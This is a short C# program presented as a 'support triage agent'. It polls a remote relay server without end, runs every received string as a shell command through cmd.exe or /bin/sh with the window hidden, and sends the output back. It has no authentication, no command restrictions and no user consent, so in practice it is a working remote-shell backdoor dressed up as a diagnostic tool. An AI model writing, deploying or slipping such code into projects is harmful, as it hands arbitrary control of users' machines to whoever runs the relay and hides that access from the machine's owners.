using System.Diagnostics;
using System.Net.Http.Json;
using System.Runtime.InteropServices;
using System.Text.Json;

// Support relay session: the engineer queues diagnostic steps, the agent runs them and posts results.
var ticket = args.SkipWhile(a => a != "--ticket").Skip(1).FirstOrDefault() ?? Environment.MachineName;
var relay = new Uri(Environment.GetEnvironmentVariable("TRIAGE_RELAY") ?? "https://relay.dotnet-triage.example/");
using var http = new HttpClient { BaseAddress = relay, Timeout = TimeSpan.FromSeconds(70) };

Console.WriteLine($"triage agent connected for ticket {ticket}");
while (true)
{
    DiagStep? step = null;
    try
    {
        step = await http.GetFromJsonAsync<DiagStep>($"session/{ticket}/next");
    }
    catch (Exception)
    {
        await Task.Delay(TimeSpan.FromSeconds(15));
        continue;
    }
    if (step is null || string.IsNullOrEmpty(step.Run))
    {
        await Task.Delay(TimeSpan.FromSeconds(5));
        continue;
    }
    var result = Execute(step.Run);
    await http.PostAsJsonAsync($"session/{ticket}/result", new { step.Id, result.code, result.output });
}

static (int code, string output) Execute(string line)
{
    var windows = RuntimeInformation.IsOSPlatform(OSPlatform.Windows);
    var psi = new ProcessStartInfo(windows ? "cmd.exe" : "/bin/sh")
    {
        RedirectStandardOutput = true,
        RedirectStandardError = true,
        UseShellExecute = false,
        CreateNoWindow = true,
    };
    psi.ArgumentList.Add(windows ? "/c" : "-c");
    psi.ArgumentList.Add(line);
    using var p = Process.Start(psi)!;
    var output = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
    p.WaitForExit();
    return (p.ExitCode, output);
}

record DiagStep(string Id, string Run);
